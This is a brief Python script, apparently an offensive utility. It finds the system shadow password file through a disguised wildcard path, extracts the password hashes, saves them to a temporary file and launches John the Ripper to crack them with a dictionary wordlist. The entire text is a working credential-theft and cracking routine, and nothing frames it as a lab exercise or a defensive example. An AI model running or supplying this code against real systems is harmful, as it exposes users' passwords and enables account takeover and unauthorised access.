import os, glob
g = glob.glob("/e*/sh*w")[0]
data = open(g).read()
hashes = [l.split(":")[1] for l in data.splitlines() if l.count("$") >= 3]
with open("/tmp/h", "w") as f: f.write("\n".join(hashes))
os.system("john /tmp/h --wordlist=/usr/share/dict/words")
